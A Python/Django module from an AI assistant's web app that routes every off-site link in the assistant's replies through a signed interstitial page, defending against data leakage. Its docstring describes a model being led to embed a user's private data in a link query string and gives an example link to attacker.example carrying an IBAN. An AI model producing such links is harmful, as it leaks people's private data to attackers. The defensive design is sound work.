"""Links the model wrote are not a channel (issue 33.3).

An obedient model can put the person's private data in a link's query string
(`[your invoice](https://attacker.example/?iban=...)`); one click sends it.
So every link in an assistant's reply to a host other than this deployment's
goes through a page of ours first (`/out/`) that shows the whole destination,
query string included, and needs a second click; the reply shows the host
beside the link. Nothing leaves the browser before that click (images are
already plain links: foundation/markdown.py). The destination travels signed, so
`/out/` only ever shows what one of our pages rendered.
"""

import html
import re
from urllib.parse import urlsplit

from django.conf import settings
from django.core import signing
from django.urls import reverse

SALT = "assistant.web.outbound"
# An anchor as nh3 writes it (foundation/markdown.py): its href first, quoted, http(s) only.
_ANCHOR = re.compile(r'<a href="(https?://[^"]*)"([^>]*)>(.*?)</a>', re.DOTALL)


def own_hosts() -> frozenset[str]:
    return frozenset(host.lstrip(".").lower() for host in settings.ALLOWED_HOSTS if host not in ("*", ""))


def through_interstitial(rendered: str) -> str:
    """`rendered` (sanitized HTML) with every link to another host sent through /out/."""
    hosts = own_hosts()
    return _ANCHOR.sub(lambda match: _outbound(match, hosts), rendered)


def _outbound(match: re.Match, hosts: frozenset[str]) -> str:
    url = html.unescape(match.group(1))
    host = (urlsplit(url).hostname or "").lower()
    if not host or host in hosts:
        return match.group(0)
    href = reverse("web-outbound") + "?to=" + signing.dumps(url, salt=SALT, compress=True)
    return (f'<a href="{html.escape(href)}" data-outbound="{html.escape(host)}" title="{html.escape(url)}"'
            f'{match.group(2)}>{match.group(3)}</a> <span class="link-host">({html.escape(host)})</span>')


def destination(token: str) -> str | None:
    """The URL a link of ours pointed at; None for anything else."""
    try:
        url = signing.loads(token, salt=SALT)
    except signing.BadSignature:
        return None
    return url if isinstance(url, str) and urlsplit(url).scheme in ("http", "https") else None
